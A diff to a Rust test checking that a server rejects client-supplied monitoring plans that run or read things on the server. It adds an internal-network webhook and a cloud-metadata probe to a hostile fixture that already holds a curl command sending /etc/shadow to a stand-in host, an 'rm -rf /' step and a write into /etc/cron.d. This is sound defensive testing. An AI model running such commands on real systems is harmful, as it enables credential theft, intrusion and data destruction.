@@ -391,6 +391,8 @@ fn a_client_plan_may_not_run_or_read_anything_on_the_server() {
         )
         + "\n[[monitor]]\nid = \"exfil\"\nkind = \"command\"\ntarget = \"curl -d @/etc/shadow https://evil.example\"\ninterval = \"1m\"\n"
         + "\n[[channel]]\nid = \"chat\"\nkind = \"slack\"\nurl = { file = \"/etc/rempart/secret\" }\n"
+        + "\n[[channel]]\nid = \"inside\"\nkind = \"webhook\"\nurl = \"http://10.0.0.7:8080/hook\"\n"
+        + "\n[[monitor]]\nid = \"metadata\"\nkind = \"http\"\ntarget = \"http://169.254.169.254/latest/meta-data/\"\ninterval = \"1m\"\n"
         + "\n[[scenario]]\nid = \"s\"\nname = \"s\"\nprocess = \"compta\"\nsteps = [\n  { name = \"sql\", sql = \"SELECT 1\", database = { env = \"DATABASE_URL\" } },\n  { name = \"break\", simulate = \"rm -rf /\" },\n  { name = \"put\", restore = \"fichiers\", to = \"/etc/cron.d\" },\n]\n";
     let (s, body) = call("PUT", &plan_url, Some(&f.beta), Some(hostile.as_bytes()));
     assert_eq!(
@@ -420,6 +422,8 @@ fn a_client_plan_may_not_run_or_read_anything_on_the_server() {
         "scenario[0].steps[0].database",
         "scenario[0].steps[1].simulate",
         "scenario[0].steps[2].to",
+        "channel[1].url",
+        "monitor[2].target",
     ] {
         assert!(paths.contains(&want), "{want} missing: {found:#?}");
     }
